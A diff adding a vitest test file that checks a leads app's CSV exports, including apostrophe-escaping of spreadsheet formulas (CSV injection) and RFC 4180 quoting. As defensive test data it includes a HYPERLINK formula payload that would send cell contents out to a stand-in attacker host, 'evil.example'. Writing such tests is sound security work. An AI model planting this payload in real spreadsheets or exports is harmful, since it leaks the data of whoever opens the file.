@@ -1,0 +1,153 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { toCsv } from '../../src/modules/leads/index.js';
+import { auth, createAgent, registerUser, startTestApp, type TestApp } from '../helpers/app.js';
+
+/**
+ * CSV exports (issue 22.6): a cell a spreadsheet would run as a formula (starting with `=`, `+`,
+ * `-`, `@`, a tab or a CR; OWASP "CSV Injection") gets a leading apostrophe, but a phone number
+ * such as `+31 20 123 4567` is exported as it is; fields are quoted per RFC 4180.
+ */
+
+type Json = Record<string, any>;
+
+/** RFC 4180 reader: quoted fields may hold commas, CRLF and doubled quotes. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
+    } else field += c;
+  }
+  if (field !== '' || row.length > 0) throw new Error('the last line does not end with CRLF');
+  return rows;
+}
+
+let t: TestApp;
+let token: string;
+
+beforeAll(async () => {
+  t = await startTestApp({ env: { EMBEDDINGS: 'none' } });
+  token = (await registerUser(t.app)).token;
+});
+afterAll(async () => t?.cleanup());
+
+async function csv(url: string): Promise<{ text: string; rows: string[][] }> {
+  const res = await t.app.inject({ method: 'GET', url, headers: auth(token) });
+  expect(res.statusCode, res.body).toBe(200);
+  expect(res.headers['content-type']).toMatch(/^text\/csv/);
+  expect(res.body.startsWith('\uFEFF')).toBe(true);
+  const text = res.body.slice(1);
+  return { text, rows: parseCsv(text) };
+}
+
+describe('GET /api/chatbot-leads/{id}/export.csv', () => {
+  it('keeps phone numbers as they are, escapes what would run as a formula, quotes per RFC 4180', async () => {
+    const agent = await createAgent(t.app, token);
+    const leads: Array<{ name: string; phone: string }> = [
+      { name: 'Anna de Vries', phone: '+31 20 123 4567' },
+      { name: 'Bob', phone: '+1-555-0100' },
+      { name: 'Chris', phone: '+44 (0)20 7946 0958' },
+      { name: 'Dana', phone: '020 123 4567' },
+      { name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', phone: '0612345678' },
+      { name: '@SUM(1)', phone: '+31 6 1234 5678' },
+      { name: '-2+3', phone: '-2+3' },
+      { name: 'Doe, "JJ" Jr', phone: '+1 555 CALL NOW' },
+    ];
+    const made: Json[] = [];
+    for (const lead of leads) {
+      const res = await t.app.inject({ method: 'POST', url: `/api/public/lead/${agent.id}`, payload: lead });
+      expect(res.statusCode, res.body).toBe(200);
+      made.push(res.json());
+    }
+    const { text, rows } = await csv(`/api/chatbot-leads/${agent.id}/export.csv`);
+    expect(rows[0]).toEqual(['id', 'name', 'phone', 'session_id', 'created_at']);
+    const cells = new Map(rows.slice(1).map((r) => [r[0], r]));
+    const row = (i: number) => cells.get(made[i]!.id)!;
+
+    // phone numbers, as typed
+    expect(row(0).slice(1, 3)).toEqual(['Anna de Vries', '+31 20 123 4567']);
+    expect(row(1)[2]).toBe('+1-555-0100');
+    expect(row(2)[2]).toBe('+44 (0)20 7946 0958');
+    expect(row(3)[2]).toBe('020 123 4567');
+    expect(row(5)[2]).toBe('+31 6 1234 5678');
+    expect(text).toContain(',+31 20 123 4567,');
+    // formulas get the apostrophe (and a field with quotes or commas is quoted, quotes doubled)
+    expect(row(4)[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",0612345678,`);
+    expect(row(5)[1]).toBe("'@SUM(1)");
+    expect(row(6).slice(1, 3)).toEqual(["'-2+3", "'-2+3"]);
+    // starts with + but is not a phone number (letters): escaped
+    expect(row(7)[2]).toBe("'+1 555 CALL NOW");
+    // a comma and quotes: quoted, quotes doubled, nothing added
+    expect(row(7)[1]).toBe('Doe, "JJ" Jr');
+    expect(text).toContain(`,"Doe, ""JJ"" Jr",`);
+  });
+});
+
+describe('GET /api/leads/export.csv', () => {
+  it('the same rule for the account leads', async () => {
+    const add = async (name: string, contact: string, notes?: string) => {
+      const res = await t.app.inject({ method: 'POST', url: '/api/leads', headers: auth(token), payload: { name, contact, ...(notes ? { notes } : {}) } });
+      expect(res.statusCode, res.body).toBe(200);
+      return res.json();
+    };
+    const phone = await add('Erik', '+31 20 123 4567', 'line one\r\nline two, "quoted"');
+    const formula = await add('=1+1', '@evil', '+SUM(A1:A9)');
+    const { rows } = await csv('/api/leads/export.csv');
+    const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
+    expect(byId.get(phone.id)!.slice(1, 5)).toEqual(['Erik', '+31 20 123 4567', 'New', 'line one\r\nline two, "quoted"']);
+    expect(byId.get(formula.id)!.slice(1, 5)).toEqual(["'=1+1", "'@evil", 'New', "'+SUM(A1:A9)"]);
+  });
+});
+
+describe('toCsv', () => {
+  const line = (cell: string) => toCsv(['h'], [[cell]]).slice(1).split('\r\n')[1];
+
+  it.each([
+    ['+31 20 123 4567', '+31 20 123 4567'],
+    ['+1-555-0100', '+1-555-0100'],
+    ['+1 (555) 010.0100', '+1 (555) 010.0100'],
+    ['+49/30/1234567', '+49/30/1234567'],
+    ['555-0100', '555-0100'],
+    ['plain', 'plain'],
+    ['', ''],
+  ])('%j is exported as it is', (value, expected) => {
+    expect(line(value)).toBe(expected);
+  });
+
+  it.each([
+    ['=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
+    ['@SUM(1)', "'@SUM(1)"],
+    ['-2+3', "'-2+3"],
+    ['+1', "'+1"], // too short to be a phone number
+    ['+1+1', "'+1+1"], // a second plus: arithmetic, not a number
+    ['+31 20 A1', "'+31 20 A1"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', `"'\r=1+1"`],
+    ['+', "'+"],
+  ])('%j is escaped', (value, expected) => {
+    expect(line(value)).toBe(expected);
+  });
+
+  it('quotes a field with a comma, a quote, a line break or white space at its ends', () => {
+    expect(toCsv(['a', 'b'], [['Doe, "JJ" Jr', 'x\ny'], [' pad ', null]])).toBe('\uFEFFa,b\r\n"Doe, ""JJ"" Jr","x\ny"\r\n" pad ",\r\n');
+  });
+});
